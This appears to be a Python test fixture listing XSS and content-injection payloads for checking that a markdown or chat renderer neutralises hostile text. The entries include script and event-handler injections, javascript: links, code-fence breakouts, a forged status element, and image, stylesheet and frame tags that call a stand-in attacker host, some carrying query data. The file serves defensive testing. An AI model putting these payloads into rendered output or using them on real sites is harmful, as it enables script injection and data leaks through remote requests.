"""Text that tries to act: to run a script, to fetch an address, to cover or restyle the page.

`EVIL` is an address that no test may ever ask for; a script that runs leaves `window.__pwned`.
"""

EVIL = "http://evil.invalid"

PAYLOADS = (
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=1>",
    f"<img src={EVIL}/a.png>",
    f"![pixel]({EVIL}/b.png?q=chat)",
    f"![pixel][leak]\n\n[leak]: {EVIL}/c.png",
    f"[![nested]({EVIL}/d.png)]({EVIL})",
    "<svg onload=window.__pwned=1><animate onbegin=window.__pwned=1 attributeName=x></svg>",
    f'<svg><image href="{EVIL}/e.svg"/><use href="{EVIL}/f.svg#x"/></svg>',
    f"<iframe src={EVIL}></iframe>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    f'<object data="{EVIL}/g"></object><embed src="{EVIL}/h">',
    f'<video poster="{EVIL}/i.png" src="{EVIL}/i.mp4" autoplay></video>',
    f'<audio src="{EVIL}/j.mp3" autoplay onerror=window.__pwned=1></audio>',
    f'<link rel=stylesheet href="{EVIL}/k.css"><link rel=prefetch href="{EVIL}/l">',
    f"<style>@import url({EVIL}/m.css); body{{display:none}} *{{background:url({EVIL}/n)}}</style>",
    f'<div style="background:url({EVIL}/o.png);position:fixed;inset:0;z-index:9999">x</div>',
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f'<base href="{EVIL}/">',
    f'<form action="{EVIL}"><input name=q autofocus onfocus=window.__pwned=1><button>go</form>',
    "<details open ontoggle=window.__pwned=1><summary>x</summary></details>",
    "<body onload=window.__pwned=1><marquee onstart=window.__pwned=1>x</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1></style></mglyph>"
    "</table></mtext></math>",
    "[click](javascript:window.__pwned=1) <a href='javascript:window.__pwned=1'>x</a>",
    "[click](data:text/html,<script>window.__pwned=1</script>) [v](vbscript:x)",
    "<javascript:window.__pwned=1> <https://evil.invalid/auto>",
    "`<img src=x onerror=window.__pwned=1>` and ``` <img src=x onerror=window.__pwned=1> ```",
    "- item\n  ```\n<img src=x onerror=window.__pwned=1>\n",
    "```\ncode\n   ```\n<img src=x onerror=window.__pwned=1>\n"
    "```\n<img src=y onerror=window.__pwned=1>",
    '[a]: /u "\n```\n"\n<img src=x onerror=window.__pwned=1>\n```\n',
    "~~~html\n</code></pre><img src=x onerror=window.__pwned=1>\n~~~",
    f"```mermaid\ngraph TD; A[<img src={EVIL}/p onerror=window.__pwned=1>]\n"
    'click A "javascript:window.__pwned=1"\n```',
    r"$\href{javascript:window.__pwned=1}{x}$ $\htmlStyle{color:red}{x}$",
    rf"$$\includegraphics{{{EVIL}/q.png}}$$ $<img src=x onerror=window.__pwned=1>$",
    "</textarea></script><script>window.__pwned=1</script>",
    "<!--><img src=x onerror=window.__pwned=1>--> <![CDATA[<img src=x onerror=window.__pwned=1>]]>",
    "{{constructor.constructor('window.__pwned=1')()}} ${window.__pwned=1} @{x}",
    "\u202e\u0000<im\u0000g src=x onerror=window.__pwned=1>",
    "<details><summary>Thinking</summary><img src=x onerror=window.__pwned=1></details>",
    "$$\n```\n$$\n<img src=x onerror=window.__pwned=1>\n",
    "\\[\n```\n\\]\n<img src=x onerror=window.__pwned=1>\n",
    "> ```\n```html\n<img src=x onerror=window.__pwned=1>\n> ```\n",
    '<div class="ps-foot"><span class="ps-failed">forged</span></div>',
)
